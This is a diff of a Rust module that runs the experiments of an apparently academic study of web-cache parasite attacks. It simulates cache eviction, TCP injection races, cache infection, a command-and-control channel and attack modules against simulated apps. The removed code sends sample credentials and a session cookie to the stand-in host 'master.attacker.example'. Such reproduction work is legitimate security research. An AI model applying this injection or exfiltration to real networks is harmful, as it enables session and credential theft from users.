@@ -1,15 +1,15 @@
-//! Experiment runners: one function per table and figure of the paper.
+//! Table I–V runners and their result types.
 //!
-//! Every runner returns a structured result plus a `render()` method that
-//! prints rows shaped like the paper's artefact, so the bench harness and the
-//! examples can regenerate Tables I–V and Figures 1–5 (and the §VIII
-//! ablation) with one call each.
+//! Each runner takes the uniform [`RunConfig`] and produces a structured
+//! result with a paper-shaped `render()` plus a [`ToJson`] conversion; the
+//! [`super::Experiment`] impls in the parent module wrap them into
+//! [`super::Artifact`]s.
 
+use super::{standard_infector, RunConfig, MASTER_HOST};
 use crate::attacks::{self, AttackReport};
-use crate::cnc::{downstream_goodput_bytes_per_sec, CncServer, Command};
-use crate::defense::{ablation_matrix, AblationRow, AttackStage};
+use crate::cnc::CncServer;
 use crate::eviction::{junk_origin, EvictionAttack, EvictionReport};
-use crate::infect::Infector;
+use crate::json::{Json, ToJson};
 use crate::master::Master;
 use crate::script::Parasite;
 use mp_apps::banking::BankingApp;
@@ -21,18 +21,10 @@ use mp_httpsim::message::{Request, Response};
 use mp_httpsim::transport::{Exchange, Internet, StaticOrigin};
 use mp_httpsim::url::{Scheme, Url};
 use mp_netsim::link::MediumKind;
-use mp_netsim::sim::{FixedResponder, Simulator};
+use mp_netsim::sim::{FixedResponder, Simulator, DEFAULT_EVENT_BUDGET};
 use mp_netsim::time::Duration as SimDuration;
 use mp_webcache::{table4_entries, SharedCache};
-use mp_webgen::{scan, Crawler, PersistencySeries, PolicyScan, Population, PopulationConfig};
 use serde::{Deserialize, Serialize};
-
-/// The C&C host used by all experiments.
-pub const MASTER_HOST: &str = "master.attacker.example";
-
-fn standard_infector() -> Infector {
-    Infector::new(Parasite::standard(MASTER_HOST))
-}
 
 // ---------------------------------------------------------------------------
 // Table I — cache eviction
@@ -64,11 +56,34 @@ impl Table1Result {
     }
 }
 
+impl ToJson for EvictionReport {
+    fn to_json(&self) -> Json {
+        Json::obj([
+            ("browser", self.browser.to_json()),
+            ("evicted_targets", self.evicted_targets.to_json()),
+            ("inter_domain", self.inter_domain.to_json()),
+            ("junk_objects_loaded", self.junk_objects_loaded.to_json()),
+            ("junk_bytes", self.junk_bytes.to_json()),
+            ("memory_pressure", self.memory_pressure.to_json()),
+            ("cache_capacity_bytes", self.cache_capacity_bytes.to_json()),
+            ("remark", self.remark.to_json()),
+        ])
+    }
+}
+
+impl ToJson for Table1Result {
+    fn to_json(&self) -> Json {
+        Json::obj([("rows", self.rows.to_json())])
+    }
+}
+
 /// Runs the cache-eviction attack against every Table I browser profile.
 ///
-/// `scale` shrinks the cache sizes and junk objects so the experiment runs in
-/// milliseconds; the *behaviour* (who evicts, who melts down) is unaffected.
-pub fn table1_cache_eviction(scale: u64) -> Table1Result {
+/// `config.scale` shrinks the cache sizes and junk objects so the experiment
+/// runs in milliseconds; the *behaviour* (who evicts, who melts down) is
+/// unaffected.
+pub(super) fn table1_cache_eviction(config: &RunConfig) -> Table1Result {
+    let scale = config.scale.max(1);
     let rows = BrowserProfile::table1_browsers()
         .into_iter()
         .map(|profile| {
@@ -117,6 +132,19 @@ pub enum InjectionCell {
     NotApplicable,
 }
 
+impl ToJson for InjectionCell {
+    fn to_json(&self) -> Json {
+        Json::Str(
+            match self {
+                InjectionCell::Success => "success",
+                InjectionCell::Failure => "failure",
+                InjectionCell::NotApplicable => "n/a",
+            }
+            .to_string(),
+        )
+    }
+}
+
 /// Result of the Table II experiment.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Table2Result {
@@ -159,46 +187,47 @@ impl Table2Result {
     }
 }
 
-/// Runs one packet-level injection race and reports whether the victim ended
-/// up with the parasite.
-pub fn run_injection_race(seed: u64) -> bool {
-    let master = Master::new(MASTER_HOST);
-    let target = Url::parse("http://somesite.com/my.js").expect("static url");
-    let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
-        .with_cache_control("public, max-age=86400");
-    let (tap, _stats) = master.packet_tap(&[(target.clone(), genuine.clone())], SimDuration::from_micros(300));
-
-    let mut sim = Simulator::new(seed);
-    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
-    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
-    let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
-    let server = sim.add_host("server", mp_netsim::addr::IpAddr::new(203, 0, 113, 10), wan);
-    sim.listen(server, 80);
-    sim.set_service(
-        server,
-        Box::new(FixedResponder::new(genuine.to_wire(), SimDuration::from_micros(500))),
-    );
-    sim.add_tap(wifi, Box::new(tap));
-
-    let conn = sim.connect(victim, server, 80).expect("hosts exist");
-    let request = Request::get(target).to_wire();
-    sim.send(victim, conn, &request).expect("connection exists");
-    sim.run_until_idle();
-
-    let received = sim.received(victim, conn);
-    Response::from_wire(&received)
-        .ok()
-        .map(|r| Parasite::detect(&r.body.as_text()).is_some())
-        .unwrap_or(false)
+impl ToJson for Table2Result {
+    fn to_json(&self) -> Json {
+        Json::obj([
+            ("browsers", self.browsers.to_json()),
+            (
+                "rows",
+                Json::Arr(
+                    self.rows
+                        .iter()
+                        .map(|(os, cells)| {
+                            Json::obj([("os", os.to_json()), ("cells", cells.to_json())])
+                        })
+                        .collect(),
+                ),
+            ),
+        ])
+    }
 }
 
+/// A completed packet-level injection race, kept around so callers can
+/// inspect what the victim received ([`injection_race`]) or the full packet
+/// trace (the Figure 2 flow).
+pub(super) struct RaceRun {
+    /// The simulator after `run_until_idle`.
+    pub(super) sim: Simulator,
+    /// The victim host.
+    pub(super) victim: mp_netsim::endpoint::HostId,
+    /// The victim's connection to the genuine server.
+    pub(super) conn: mp_netsim::endpoint::ConnId,
+}
 
-/// Parametric variant of the injection race: the attacker reacts after
-/// `attacker_reaction_us` and the genuine server sits `server_one_way_us`
-/// away (one-way WAN latency). Returns `true` if the victim ends up with the
-/// parasite. Used by the race-crossover ablation: the attack only works while
-/// the spoofed response beats the genuine one to the victim.
-pub fn injection_race_with_timing(attacker_reaction_us: u64, server_one_way_us: u64) -> bool {
+/// Builds and runs the paper's injection-race world: a victim on shared WiFi
+/// requesting `somesite.com/my.js`, the master's tap reacting after
+/// `attacker_reaction_us`, the genuine server `server_one_way_us` away
+/// (one-way WAN latency), with at most `event_budget` simulator events.
+pub(super) fn run_race_simulation(
+    seed: u64,
+    attacker_reaction_us: u64,
+    server_one_way_us: u64,
+    event_budget: u64,
+) -> RaceRun {
     let master = Master::new(MASTER_HOST);
     let target = Url::parse("http://somesite.com/my.js").expect("static url");
     let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
@@ -208,7 +237,7 @@ pub fn injection_race_with_timing(attacker_reaction_us: u64, server_one_way_us: 
         SimDuration::from_micros(attacker_reaction_us),
     );
 
-    let mut sim = Simulator::new(1234);
+    let mut sim = Simulator::new(seed).with_event_budget(event_budget);
     let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
     let wan = sim.add_medium(MediumKind::WideArea, server_one_way_us);
     let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
@@ -224,14 +253,42 @@ pub fn injection_race_with_timing(attacker_reaction_us: u64, server_one_way_us: 
     sim.send(victim, conn, &Request::get(target).to_wire()).expect("connection exists");
     sim.run_until_idle();
 
-    Response::from_wire(&sim.received(victim, conn))
+    RaceRun { sim, victim, conn }
+}
+
+/// One packet-level injection race; returns `true` if the victim ends up
+/// with the parasite.
+fn injection_race(
+    seed: u64,
+    attacker_reaction_us: u64,
+    server_one_way_us: u64,
+    event_budget: u64,
+) -> bool {
+    let race = run_race_simulation(seed, attacker_reaction_us, server_one_way_us, event_budget);
+    Response::from_wire(&race.sim.received(race.victim, race.conn))
         .ok()
         .map(|r| Parasite::detect(&r.body.as_text()).is_some())
         .unwrap_or(false)
 }
 
+/// Runs one packet-level injection race with the paper's standard timing
+/// (0.3 ms attacker reaction, 40 ms one-way WAN) and reports whether the
+/// victim ended up with the parasite.
+pub fn run_injection_race(seed: u64) -> bool {
+    injection_race(seed, 300, 40_000, DEFAULT_EVENT_BUDGET)
+}
+
+/// Parametric variant of the injection race: the attacker reacts after
+/// `attacker_reaction_us` and the genuine server sits `server_one_way_us`
+/// away (one-way WAN latency). Returns `true` if the victim ends up with the
+/// parasite. Used by the race-crossover ablation: the attack only works while
+/// the spoofed response beats the genuine one to the victim.
+pub fn injection_race_with_timing(attacker_reaction_us: u64, server_one_way_us: u64) -> bool {
+    injection_race(1234, attacker_reaction_us, server_one_way_us, DEFAULT_EVENT_BUDGET)
+}
+
 /// Runs the Table II OS × browser injection matrix.
-pub fn table2_injection_matrix() -> Table2Result {
+pub(super) fn table2_injection_matrix(config: &RunConfig) -> Table2Result {
     let browsers = BrowserProfile::table2_browsers();
     let browser_names = browsers.iter().map(|b| b.kind.to_string()).collect();
     let mut rows = Vec::new();
@@ -244,8 +301,8 @@ pub fn table2_injection_matrix() -> Table2Result {
             }
             // TCP injection does not depend on the browser or OS (both follow
             // the TCP specification); run the race to confirm it.
-            let seed = (os_index * 16 + browser_index) as u64 + 1;
-            if run_injection_race(seed) {
+            let seed = config.seed.wrapping_add((os_index * 16 + browser_index) as u64 + 1);
+            if injection_race(seed, 300, 40_000, config.event_budget) {
                 cells.push(InjectionCell::Success);
             } else {
                 cells.push(InjectionCell::Failure);
@@ -296,6 +353,19 @@ pub enum RemovalCell {
     NotApplicable,
 }
 
+impl ToJson for RemovalCell {
+    fn to_json(&self) -> Json {
+        Json::Str(
+            match self {
+                RemovalCell::Removed => "removed",
+                RemovalCell::Survived => "survived",
+                RemovalCell::NotApplicable => "n/a",
+            }
+            .to_string(),
+        )
+    }
+}
+
 /// Result of the Table III experiment.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Table3Result {
@@ -324,6 +394,27 @@ impl Table3Result {
             ));
         }
         out
+    }
+}
+
+impl ToJson for Table3Result {
+    fn to_json(&self) -> Json {
+        Json::obj([(
+            "rows",
+            Json::Arr(
+                self.rows
+                    .iter()
+                    .map(|(browser, cells)| {
+                        Json::obj([
+                            ("browser", browser.to_json()),
+                            ("hard_reload", cells[0].to_json()),
+                            ("clear_cache", cells[1].to_json()),
+                            ("clear_cookies", cells[2].to_json()),
+                        ])
+                    })
+                    .collect(),
+            ),
+        )])
     }
 }
 
@@ -370,7 +461,7 @@ fn parasite_survives_after(profile: BrowserProfile, method: RefreshMethod) -> Re
 }
 
 /// Runs the Table III experiment over the paper's browser set.
-pub fn table3_refresh_methods() -> Table3Result {
+pub(super) fn table3_refresh_methods(_config: &RunConfig) -> Table3Result {
     let browsers = vec![
         BrowserProfile::chrome(),
         BrowserProfile::firefox(),
@@ -415,6 +506,19 @@ pub struct Table4Row {
     pub comment: Option<String>,
 }
 
+impl ToJson for Table4Row {
+    fn to_json(&self) -> Json {
+        Json::obj([
+            ("location", self.location.to_json()),
+            ("class", self.class.to_json()),
+            ("name", self.name.to_json()),
+            ("infected_over_http", self.infected_over_http.to_json()),
+            ("infected_over_https", self.infected_over_https.to_json()),
+            ("comment", self.comment.to_json()),
+        ])
+    }
+}
+
 /// Result of the Table IV experiment.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Table4Result {
@@ -438,6 +542,12 @@ impl Table4Result {
             ));
         }
         out
+    }
+}
+
+impl ToJson for Table4Result {
+    fn to_json(&self) -> Json {
+        Json::obj([("rows", self.rows.to_json())])
     }
 }
 
@@ -470,7 +580,7 @@ fn shared_cache_infection(instance: mp_webcache::CacheInstance, https: bool) -> 
 }
 
 /// Runs the Table IV experiment over every taxonomy row.
-pub fn table4_caches() -> Table4Result {
+pub(super) fn table4_caches(_config: &RunConfig) -> Table4Result {
     let rows = table4_entries()
         .into_iter()
         .map(|instance| {
@@ -537,8 +647,40 @@ impl Table5Result {
     }
 }
 
+impl ToJson for AttackReport {
+    fn to_json(&self) -> Json {
+        Json::obj([
+            ("name", self.name.to_json()),
+            (
+                "property",
+                Json::Str(
+                    match self.property {
+                        attacks::SecurityProperty::Confidentiality => "confidentiality",
+                        attacks::SecurityProperty::Integrity => "integrity",
+                        attacks::SecurityProperty::Availability => "availability",
+                    }
+                    .to_string(),
+                ),
+            ),
+            ("target", self.target.to_json()),
+            ("succeeded", self.succeeded.to_json()),
+            ("requirements_met", self.requirements_met.to_json()),
+            ("evidence", self.evidence.to_json()),
+        ])
+    }
+}
+
+impl ToJson for Table5Result {
+    fn to_json(&self) -> Json {
+        Json::obj([
+            ("reports", self.reports.to_json()),
+            ("successes", self.successes().to_json()),
+        ])
+    }
+}
+
 /// Runs every Table V attack module against the simulated applications.
-pub fn table5_attacks() -> Table5Result {
+pub(super) fn table5_attacks(_config: &RunConfig) -> Table5Result {
     let mut reports = Vec::new();
     let mut cnc = CncServer::new(MASTER_HOST);
 
@@ -610,406 +752,4 @@ pub fn table5_attacks() -> Table5Result {
     reports.push(attacks::browser_ddos(250, 40, "192.168.0.1"));
 
     Table5Result { reports }
-}
-
-// ---------------------------------------------------------------------------
-// Figures 1, 2 — message flows
-// ---------------------------------------------------------------------------
-
-/// A rendered message-flow trace (Figures 1, 2 and 4 are sequence diagrams).
-#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
-pub struct FlowTrace {
-    /// Human-readable description of the flow.
-    pub title: String,
-    /// One line per step.
-    pub steps: Vec<String>,
-}
-
-impl FlowTrace {
-    /// Renders the flow.
-    pub fn render(&self) -> String {
-        let mut out = format!("{}\n", self.title);
-        for (index, step) in self.steps.iter().enumerate() {
-            out.push_str(&format!("  {:>2}. {}\n", index + 1, step));
-        }
-        out
-    }
-}
-
-/// Regenerates the Figure 1 cache-eviction flow from a browser-level run.
-pub fn fig1_eviction_flow() -> FlowTrace {
-    let mut victim_site = StaticOrigin::new("any.com");
-    victim_site.put_text("/index.html", ResourceKind::Html, "<html><body>any</body></html>", "no-cache");
-    let mut popular = StaticOrigin::new("popular.com");
-    popular.put_text("/img.png", ResourceKind::JavaScript, "img", "public, max-age=86400");
-    let mut net = Internet::new();
-    net.register_origin(victim_site);
-    net.register_origin(popular);
-    net.register_origin(junk_origin(2_048, 16));
-
-    let profile = BrowserProfile {
-        cache_capacity_bytes: 16_000,
-        ..BrowserProfile::chrome()
-    };
-    let mut browser = Browser::new(profile, Box::new(net));
-
-    let mut steps = Vec::new();
-    steps.push("victim -> any.com: GET / (legitimate)".to_string());
-    browser.visit(&Url::parse("http://any.com/index.html").expect("static url"));
-    steps.push(format!(
-        "attacker -> victim: injected inline script `{}` [ATTACK]",
-        crate::eviction::eviction_inline_script(16)
-    ));
-    let popular_url = Url::parse("http://popular.com/img.png").expect("static url");
-    browser.fetch(&popular_url, "popular.com");
-    let attack = EvictionAttack::new(2_048, 16);
-    let report = attack.run(&mut browser, std::slice::from_ref(&popular_url));
-    for index in 0..report.junk_objects_loaded {
-        steps.push(format!("victim -> attacker.com: GET /junk{index:04}.jpg [ATTACK]"));
-    }
-    let refetch = browser.fetch(&popular_url, "popular.com");
-    steps.push(format!(
-        "victim -> popular.com: GET /img.png ({}; cache was flushed)",
-        match refetch.source {
-            FetchSource::Network => "fresh network fetch",
-            other => return FlowTrace { title: "Figure 1".into(), steps: vec![format!("unexpected source {other:?}")] },
-        }
-    ));
-    FlowTrace {
-        title: "Figure 1 - cache eviction message flow".to_string(),
-        steps,
-    }
-}
-
-/// Regenerates the Figure 2 cache-infection flow from a packet-level run.
-pub fn fig2_infection_flow() -> FlowTrace {
-    let master = Master::new(MASTER_HOST);
-    let target = Url::parse("http://somesite.com/my.js").expect("static url");
-    let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
-        .with_cache_control("public, max-age=86400");
-    let (tap, _stats) = master.packet_tap(&[(target.clone(), genuine.clone())], SimDuration::from_micros(300));
-
-    let mut sim = Simulator::new(99);
-    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
-    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
-    let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
-    let server = sim.add_host("server", mp_netsim::addr::IpAddr::new(203, 0, 113, 10), wan);
-    sim.listen(server, 80);
-    sim.set_service(
-        server,
-        Box::new(FixedResponder::new(genuine.to_wire(), SimDuration::from_micros(500))),
-    );
-    sim.add_tap(wifi, Box::new(tap));
-
-    let conn = sim.connect(victim, server, 80).expect("hosts exist");
-    sim.send(victim, conn, &Request::get(target.clone()).to_wire()).expect("conn");
-    sim.run_until_idle();
-
-    let mut steps: Vec<String> = sim
-        .trace()
-        .with_payload()
-        .map(|event| event.describe())
-        .collect();
-
-    // Step 3/4 of the figure: the parasite reloads the original object with a
-    // cache-busting query so the page keeps working.
-    let busted = target.with_query(Some("t=500198"));
-    steps.push(format!("victim -> somesite.com: GET {} (parasite reloads original)", busted));
-    // Step 5: propagation requests to further popular domains.
-    for host in ["top1.com", "top2.com", "top3.com"] {
-        steps.push(format!("victim -> {host}: GET /persistent.js (propagation) [ATTACK]"));
-    }
-
-    FlowTrace {
-        title: "Figure 2 - cache infection message flow (packet-level race)".to_string(),
-        steps,
-    }
-}
-
-// ---------------------------------------------------------------------------
-// Figure 3 — persistency measurement
-// ---------------------------------------------------------------------------
-
-/// Result of the Figure 3 experiment.
-#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
-pub struct Fig3Result {
-    /// The measured series.
-    pub series: PersistencySeries,
-}
-
-impl Fig3Result {
-    /// Renders selected points of the curves.
-    pub fn render(&self) -> String {
-        let mut out = String::from("Figure 3 - object persistency over the measurement period\n");
-        out.push_str("day | any .js % | name-persistent % | hash-persistent %\n");
-        for &day in &[1u32, 5, 10, 25, 50, 75, 100] {
-            if let Some(point) = self.series.at(day) {
-                out.push_str(&format!(
-                    "{:>3} | {:>9.1} | {:>17.1} | {:>17.1}\n",
-                    day, point.any_js, point.name_persistent, point.hash_persistent
-                ));
-            }
-        }
-        out
-    }
-}
-
-/// Runs the Figure 3 persistency crawl over a generated population.
-pub fn fig3_persistency(sites: usize, days: u32, seed: u64) -> Fig3Result {
-    let population = Population::generate(PopulationConfig::small(sites, seed));
-    let series = Crawler::new(population).run(days);
-    Fig3Result { series }
-}
-
-// ---------------------------------------------------------------------------
-// Figure 4 — C&C channel
-// ---------------------------------------------------------------------------
-
-/// Result of the Figure 4 experiment.
-#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
-pub struct Fig4Result {
-    /// (parallel requests, modelled goodput bytes/s).
-    pub goodput_curve: Vec<(u32, f64)>,
-    /// Bytes of command data delivered end-to-end in the functional check.
-    pub command_bytes_delivered: usize,
-    /// Bytes exfiltrated upstream in the functional check.
-    pub upstream_bytes_delivered: usize,
-}
-
-impl Fig4Result {
-    /// Renders the channel characterisation.
-    pub fn render(&self) -> String {
-        let mut out = String::from("Figure 4 - C&C channel characterisation\n");
-        out.push_str("parallel image requests | downstream goodput (KB/s)\n");
-        for (parallel, goodput) in &self.goodput_curve {
-            out.push_str(&format!("{:>23} | {:>10.1}\n", parallel, goodput / 1000.0));
-        }
-        out.push_str(&format!(
-            "functional check: {} command bytes down, {} exfil bytes up\n",
-            self.command_bytes_delivered, self.upstream_bytes_delivered
-        ));
-        out
-    }
-}
-
-/// Runs the Figure 4 C&C channel experiment.
-pub fn fig4_cnc_channel() -> Fig4Result {
-    let goodput_curve = [1u32, 5, 10, 25, 50]
-        .into_iter()
-        .map(|parallel| (parallel, downstream_goodput_bytes_per_sec(parallel, 1.0)))
-        .collect();
-
-    // Functional end-to-end check: a command travels down the image channel,
-    // stolen data travels back up the URL channel.
-    let mut server = CncServer::new(MASTER_HOST);
-    let command = Command::ExecuteModule("login-data".to_string());
-    let command_len = command.to_bytes().len();
-    server.queue_command(command);
-    let images = server.serve_next_command();
-    let dims: Vec<crate::cnc::ImageDimensions> = images
-        .iter()
-        .map(|r| {
-            let text = r.body.as_text();
-            let width = text.split("width=\"").nth(1).and_then(|s| s.split('"').next()).and_then(|s| s.parse().ok()).unwrap_or(0);
-            let height = text.split("height=\"").nth(1).and_then(|s| s.split('"').next()).and_then(|s| s.parse().ok()).unwrap_or(0);
-            crate::cnc::ImageDimensions { width, height }
-        })
-        .collect();
-    let decoded = crate::cnc::decode_dimensions(&dims).unwrap_or_default();
-
-    let exfil = b"user=alice&pass=correct-horse&cookie=SID:abc123";
-    let url = crate::cnc::encode_upstream(MASTER_HOST, "campaign-0", exfil);
-    server.receive_upstream(&url);
-
-    Fig4Result {
-        goodput_curve,
-        command_bytes_delivered: if decoded.len() == command_len { command_len } else { 0 },
-        upstream_bytes_delivered: server.exfiltrated().first().map(|r| r.data.len()).unwrap_or(0),
-    }
-}
-
-// ---------------------------------------------------------------------------
-// Figure 5 — CSP / HSTS / TLS measurement
-// ---------------------------------------------------------------------------
-
-/// Result of the Figure 5 experiment (plus the in-text adoption numbers).
-#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
-pub struct Fig5Result {
-    /// The full policy scan.
-    pub scan: PolicyScan,
-}
-
-impl Fig5Result {
-    /// Renders the statistics the paper reports.
-    pub fn render(&self) -> String {
-        let s = &self.scan;
-        format!(
-            "Figure 5 / in-text measurements ({} sites)\n\
-             HTTP-only sites:            {:>6.2} %  (paper: 21 %)\n\
-             vulnerable SSL versions:    {:>6.2} %  (paper: ~7 %)\n\
-             responders without HSTS:    {:>6.2} %  (paper: 67.92 %)\n\
-             preloaded responders:       {:>6}     (paper: 545 of 13419)\n\
-             strippable to HTTP:         {:>6.2} %  (paper: up to 96.59 %)\n\
-             pages supplying CSP:        {:>6.2} %  (paper: ~4.7 %)\n\
-             pages with CSP rules:       {:>6.2} %  (paper: 4.33 %)\n\
-             deprecated CSP headers:     {:>6.2} %  (paper: 15.3 %)\n\
-             connect-src uses:           {:>6}     (paper: 160)\n\
-             connect-src wildcards:      {:>6}     (paper: 17)\n\
-             sites embedding analytics:  {:>6.2} %  (paper: 63 %)\n",
-            s.total,
-            s.tls.http_only_pct(),
-            s.tls.vulnerable_ssl_pct(),
-            s.hsts.without_hsts_pct(),
-            s.hsts.preloaded,
-            s.hsts.strippable_pct(),
-            s.csp.supplied_pct(),
-            s.csp.with_rules_pct(),
-            s.csp.deprecated_pct(),
-            s.csp.connect_src_uses,
-            s.csp.connect_src_wildcards,
-            s.google_analytics_pct(),
-        )
-    }
-}
-
-/// Runs the Figure 5 policy scan over a generated population.
-pub fn fig5_csp_stats(sites: usize, seed: u64) -> Fig5Result {
-    let population = Population::generate(PopulationConfig::small(sites, seed));
-    Fig5Result {
-        scan: scan(&population),
-    }
-}
-
-// ---------------------------------------------------------------------------
-// §VIII — defence ablation
-// ---------------------------------------------------------------------------
-
-/// Result of the defence ablation.
-#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
-pub struct AblationResult {
-    /// One row per defence.
-    pub rows: Vec<AblationRow>,
-}
-
-impl AblationResult {
-    /// Renders the defence / stage matrix.
-    pub fn render(&self) -> String {
-        let mut out = String::from("Countermeasure ablation (which attack stages still succeed)\n");
-        out.push_str(&format!("{:<42}", "defence"));
-        for stage in AttackStage::ALL {
-            out.push_str(&format!(" | {stage:<26}"));
-        }
-        out.push('\n');
-        for row in &self.rows {
-            out.push_str(&format!("{:<42}", row.defense.to_string()));
-            for stage in AttackStage::ALL {
-                let survives = row.surviving_stages.contains(&stage);
-                out.push_str(&format!(" | {:<26}", if survives { "survives" } else { "blocked" }));
-            }
-            out.push('\n');
-        }
-        out
-    }
-}
-
-/// Runs the §VIII defence ablation.
-pub fn ablation_defenses() -> AblationResult {
-    AblationResult {
-        rows: ablation_matrix(),
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn table1_reproduces_the_papers_shape() {
-        let result = table1_cache_eviction(1000);
-        assert_eq!(result.rows.len(), 6);
-        let ie = result.rows.iter().find(|r| r.browser.starts_with("IE")).unwrap();
-        assert!(!ie.evicted_targets);
-        assert_eq!(ie.remark, "DOS on memory");
-        let chrome = result.rows.iter().find(|r| r.browser.starts_with("Chrome 81")).unwrap();
-        assert!(chrome.evicted_targets);
-        assert!(result.render().contains("DOS on memory"));
-    }
-
-    #[test]
-    fn table2_all_supported_combinations_succeed() {
-        let result = table2_injection_matrix();
-        assert_eq!(result.rows.len(), 5);
-        assert!(result.all_supported_succeed());
-        // IE and Edge are n/a outside Windows, Safari outside Apple platforms.
-        let render = result.render();
-        assert!(render.contains("n/a"));
-    }
-
-    #[test]
-    fn table3_matches_the_paper() {
-        let result = table3_refresh_methods();
-        let chrome = result.rows.iter().find(|(name, _)| name == "Chrome").unwrap();
-        assert_eq!(chrome.1[0], RemovalCell::Survived, "Ctrl+F5 does not remove the parasite");
-        assert_eq!(chrome.1[1], RemovalCell::Survived, "clear cache does not remove the parasite");
-        assert_eq!(chrome.1[2], RemovalCell::Removed, "clearing cookies removes it");
-        let ie = result.rows.iter().find(|(name, _)| name == "IE").unwrap();
-        assert!(ie.1.iter().all(|c| *c == RemovalCell::NotApplicable));
-    }
-
-    #[test]
-    fn table4_http_is_always_infectable_and_https_is_harder() {
-        let result = table4_caches();
-        assert_eq!(result.rows.len(), 23);
-        let http_count = result.rows.iter().filter(|r| r.infected_over_http).count();
-        let https_count = result.rows.iter().filter(|r| r.infected_over_https).count();
-        assert!(http_count > https_count);
-        let squid = result.rows.iter().find(|r| r.name == "Squid").unwrap();
-        assert!(squid.infected_over_http);
-        let bluecoat = result.rows.iter().find(|r| r.name == "Blue Coat ProxySG").unwrap();
-        assert!(!bluecoat.infected_over_https);
-    }
-
-    #[test]
-    fn table5_attacks_mostly_succeed_with_requirements_met() {
-        let result = table5_attacks();
-        assert!(result.reports.len() >= 15, "got {}", result.reports.len());
-        assert!(result.successes() >= 14, "successes: {}", result.successes());
-        assert!(result.render().contains("Transaction Manipulation"));
-    }
-
-    #[test]
-    fn figure_flows_render_their_phases() {
-        let fig1 = fig1_eviction_flow();
-        assert!(fig1.steps.iter().any(|s| s.contains("junk")));
-        assert!(fig1.render().contains("Figure 1"));
-        let fig2 = fig2_infection_flow();
-        assert!(fig2.steps.iter().any(|s| s.contains("[ATTACK]")));
-        assert!(fig2.steps.iter().any(|s| s.contains("t=500198")));
-    }
-
-    #[test]
-    fn fig3_fig4_fig5_and_ablation_produce_consistent_output() {
-        let fig3 = fig3_persistency(400, 20, 7);
-        assert_eq!(fig3.series.days.len(), 20);
-        assert!(fig3.render().contains("day"));
-
-        let fig4 = fig4_cnc_channel();
-        assert!(fig4.command_bytes_delivered > 0);
-        assert!(fig4.upstream_bytes_delivered > 0);
-        assert!(fig4.goodput_curve.iter().any(|(p, g)| *p == 25 && (*g - 100_000.0).abs() < 1.0));
-
-        let fig5 = fig5_csp_stats(1500, 3);
-        assert_eq!(fig5.scan.total, 1500);
-        assert!(fig5.render().contains("connect-src"));
-
-        let ablation = ablation_defenses();
-        assert_eq!(ablation.rows.len(), 7);
-        assert!(ablation.render().contains("blocked"));
-    }
-
-    #[test]
-    fn injection_race_is_deterministic_per_seed() {
-        assert!(run_injection_race(1));
-        assert!(run_injection_race(2));
-    }
 }
